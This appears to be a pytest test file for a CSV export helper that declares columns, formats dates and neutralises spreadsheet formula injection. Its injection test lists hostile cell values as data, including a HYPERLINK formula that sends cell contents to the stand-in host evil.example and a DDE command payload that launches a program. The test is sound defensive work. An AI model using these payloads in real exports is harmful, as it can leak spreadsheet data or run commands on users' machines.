"""core.columns: a table's columns declared once, read as a header and as rows."""

import datetime
from types import SimpleNamespace

import pytest

from core.columns import Column, cell_text, csv_lines, join, names, neutralise, row

COLUMNS = (
    Column("code", lambda o: o.code),
    Column("objectives", lambda o: join(o.objectives)),
    Column("published_at", lambda o: o.published_at),
)


def test_names_and_row_follow_the_declared_order():
    obj = SimpleNamespace(code="GCM-P-1", objectives=[1, 5], published_at=None)

    assert names(COLUMNS) == ("code", "objectives", "published_at")
    assert row(COLUMNS, obj) == ["GCM-P-1", "1; 5", None]


def test_cell_text_writes_dates_in_iso_8601_and_none_as_empty():
    at = datetime.datetime(2026, 5, 1, 12, 30, tzinfo=datetime.UTC)

    assert cell_text(None) == ""
    assert cell_text(datetime.date(2026, 5, 1)) == "2026-05-01"
    assert cell_text(at) == "2026-05-01T12:30:00+00:00"
    assert cell_text(12) == "12"


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_text_that_would_start_a_formula_gets_a_leading_quote(text):
    assert neutralise(text) == "'" + text
    assert cell_text(text) == "'" + text


@pytest.mark.parametrize("value", [-3, 2.5, "-3", "+2.5", "Fair = just", "", None, "a-b"])
def test_numbers_and_ordinary_text_stay_as_they_are(value):
    assert neutralise(value) == value


def test_csv_lines_write_a_bom_the_header_and_neutralised_cells():
    lines = list(csv_lines(("code", "title", "n"), [("GCM-P-1", "=1+2", -3)]))

    assert lines == ["\ufeffcode,title,n\r\n", "GCM-P-1,'=1+2,-3\r\n"]
